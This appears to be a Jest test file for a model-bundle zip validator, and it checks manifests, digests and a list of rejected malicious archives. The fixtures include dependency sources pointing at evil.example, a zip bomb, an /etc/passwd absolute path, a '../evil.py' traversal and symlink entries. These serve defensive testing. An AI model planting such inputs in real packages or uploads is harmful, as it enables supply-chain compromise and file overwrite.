import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { patchEntry, validBundle, zipBuffer, type ZipSpec } from '../../testing/build-zip';
import { MODEL_DIR_FIXTURE, MODEL_DIR_FIXTURE_VERSION } from '../../testing/test-vectors';
import { ContractErrorCode as Code } from '../contract.errors';
import { readModelDir } from '../version/read-model-dir';
import { inspectBundle } from './inspect-bundle';
import { DEFAULT_ZIP_LIMITS, type ZipLimits } from './zip-limits';

type Case = {
  name: string;
  build: () => Promise<Buffer>;
  code: Code;
  limits?: Partial<ZipLimits>;
};

const without = (name: string) => validBundle().filter((e) => e.name !== name);
const zip = (specs: ZipSpec[]) => () => zipBuffer(specs);
const patched =
  (specs: ZipSpec[], name: string, patch: Parameters<typeof patchEntry>[2]) => async () =>
    patchEntry(await zipBuffer(specs), name, patch);
const withManifest = (text: string) => [
  { name: 'ml-run.yaml', content: text },
  ...without('ml-run.yaml'),
];
const BASE = 'name: iris\nruntime: python\nentry: model.py\ncodeVersion: 1.2.0\n';

const cases: Case[] = [
  {
    name: 'a requirements.txt with --extra-index-url',
    build: zip([
      ...validBundle(),
      {
        name: 'requirements.txt',
        content: '--extra-index-url https://evil.example/simple\nnumpy\n',
      },
    ]),
    code: Code.DependencySourceRefused,
  },
  {
    name: 'a node bundle whose package.json depends on a git URL',
    build: zip([
      {
        name: 'ml-run.yaml',
        content: 'name: echo\nruntime: node\nentry: model.js\ncodeVersion: 1.0.0\n',
      },
      { name: 'model.js', content: 'module.exports = {};\n' },
      {
        name: 'package.json',
        content: '{"dependencies": {"x": "git+https://evil.example/x.git"}}',
      },
    ]),
    code: Code.DependencySourceRefused,
  },
  {
    name: 'not a zip at all',
    build: async () => Buffer.from('hello, not a zip'),
    code: Code.ZipInvalid,
  },
  {
    name: 'a truncated zip',
    build: async () => (await zipBuffer(validBundle())).subarray(0, 100),
    code: Code.ZipInvalid,
  },
  {
    name: 'too many entries',
    build: zip(validBundle()),
    limits: { maxEntries: 3 },
    code: Code.ZipTooManyEntries,
  },
  {
    name: 'too many bytes in total',
    build: zip(validBundle()),
    limits: { maxTotalUncompressedBytes: 50 },
    code: Code.ZipTooLarge,
  },
  {
    name: 'a zip bomb entry',
    build: zip([
      ...validBundle(),
      { name: 'coefficients/zeros.bin', content: Buffer.alloc(4 * 1024 ** 2) },
    ]),
    code: Code.ZipCompressionRatio,
  },
  {
    name: 'an absolute path',
    build: patched([...validBundle(), { name: '_etc/passwd', content: 'x' }], '_etc/passwd', {
      name: '/etc/passwd',
    }),
    code: Code.ZipAbsolutePath,
  },
  {
    name: 'a ".." path',
    build: patched([...validBundle(), { name: 'xx/evil.py', content: 'x' }], 'xx/evil.py', {
      name: '../evil.py',
    }),
    code: Code.ZipPathTraversal,
  },
  {
    name: 'a backslash separator',
    build: patched([...validBundle(), { name: 'src_util.py', content: 'x' }], 'src_util.py', {
      name: 'src\\util.py',
    }),
    code: Code.ZipInvalidName,
  },
  {
    name: 'a symlink',
    build: zip([...validBundle(), { name: 'link', content: 'model.py', mode: 0o120777 }]),
    code: Code.ZipSymlink,
  },
  {
    name: 'an encrypted entry',
    build: patched(validBundle(), 'model.py', { flags: 0x1 }),
    code: Code.ZipEncrypted,
  },
  {
    name: 'a case-insensitive duplicate',
    build: zip([...validBundle(), { name: 'Model.py', content: 'x' }]),
    code: Code.ZipDuplicateName,
  },
  {
    name: 'a duplicate after normalising "./"',
    build: patched([...validBundle(), { name: 'x/model.py', content: 'x' }], 'x/model.py', {
      name: './model.py',
    }),
    code: Code.ZipDuplicateName,
  },
  {
    name: 'the folder zipped instead of its contents',
    build: zip(validBundle().map((e) => ({ ...e, name: `iris/${e.name}` }))),
    code: Code.ZipManifestNotAtRoot,
  },
  { name: 'no manifest', build: zip(without('ml-run.yaml')), code: Code.ManifestMissing },
  {
    name: 'an oversized manifest',
    build: zip(validBundle()),
    limits: { maxManifestBytes: 10 },
    code: Code.ManifestTooLarge,
  },
  {
    name: 'a manifest with bad YAML',
    build: zip(withManifest('name: [')),
    code: Code.ManifestYamlInvalid,
  },
  {
    name: 'a manifest breaking a rule',
    build: zip(withManifest(BASE.replace('iris', 'Iris'))),
    code: Code.ManifestInvalid,
  },
  { name: 'no entry file', build: zip(without('model.py')), code: Code.EntryMissing },
  {
    name: 'an explicit coefficients path that is absent',
    build: zip(withManifest(`${BASE}coefficients:\n  path: weights/\n`)),
    code: Code.CoefficientsMissing,
  },
  {
    name: 'an entry whose header understates its size',
    build: patched(
      [...validBundle(), { name: 'coefficients/big.bin', content: Buffer.alloc(3 * 1024 ** 2, 7) }],
      'coefficients/big.bin',
      { uncompressedSize: 1000 },
    ),
    code: Code.ZipInvalid,
  },
];

describe(inspectBundle.name, () => {
  let dir: string;
  let counter = 0;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'bundle-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  async function write(bytes: Buffer): Promise<string> {
    const file = join(dir, `bundle-${counter++}.zip`);
    await writeFile(file, bytes);
    return file;
  }

  it('reads manifest, entries and the same version as the unpacked folder', async () => {
    const sut = await inspectBundle(await write(await zipBuffer(validBundle())));
    expect(sut.version).toBe(MODEL_DIR_FIXTURE_VERSION);
    expect(sut.version).toBe((await readModelDir(MODEL_DIR_FIXTURE)).version);
    expect(sut.manifest).toMatchObject({ name: 'iris', runtime: 'python', replicas: 1 });
    expect(sut.entries.map((e) => e.name)).toEqual(validBundle().map((e) => e.name));
  });

  it('ignores directory entries and "./" prefixes for the digest', async () => {
    const specs = validBundle()
      .filter((e) => !e.directory)
      .map((e) => ({ ...e, name: `./${e.name}` }));
    const sut = await inspectBundle(await write(await zipBuffer(specs)));
    expect(sut.version).toBe(MODEL_DIR_FIXTURE_VERSION);
  });

  it('digests the content of every file: the same files agree, other code differs', async () => {
    const files = validBundle();
    const sut = await inspectBundle(await write(await zipBuffer(files)));
    // The same files, in another order, with "./" names and no folder entries.
    const rezipped = files
      .filter((e) => !e.directory)
      .reverse()
      .map((e) => ({ ...e, name: `./${e.name}` }));
    const same = await inspectBundle(await write(await zipBuffer(rezipped)));
    const otherCode = files.map((e) =>
      e.name === 'model.py' ? { ...e, content: `${String(e.content)}\n# changed\n` } : e,
    );
    const changed = await inspectBundle(await write(await zipBuffer(otherCode)));

    expect(sut.contentDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(same.contentDigest).toBe(sut.contentDigest);
    expect(changed.version).toBe(sut.version);
    expect(changed.contentDigest).not.toBe(sut.contentDigest);
  });

  it('treats an absent default coefficients folder as no coefficients', async () => {
    const specs = validBundle().filter((e) => !e.name.startsWith('coefficients'));
    const sut = await inspectBundle(await write(await zipBuffer(specs)));
    expect(sut.version).toBe('1.2.0+e3b0c44298fc');
  });

  it('lists a single-file coefficients path by its basename', async () => {
    const specs = [
      ...withManifest(`${BASE}coefficients:\n  path: data/weights.json\n`),
      { name: 'data/weights.json', content: '{"w":[0.1,0.2,0.3]}' },
    ];
    const sut = await inspectBundle(await write(await zipBuffer(specs)));
    // versions.json "one file": weights.json with this content.
    expect(sut.coefficientsDigest).toBe(
      'ebc3951cb16f59f83e11bc487132d49667b9c31f283a9e855173888ba6a49fc5',
    );
  });

  it.each(cases.map((c) => [c.name, c] as const))('rejects %s', async (_name, c) => {
    const file = await write(await c.build());
    const limits = { ...DEFAULT_ZIP_LIMITS, ...c.limits };
    await expect(inspectBundle(file, limits)).rejects.toMatchObject({ code: c.code });
  });
});
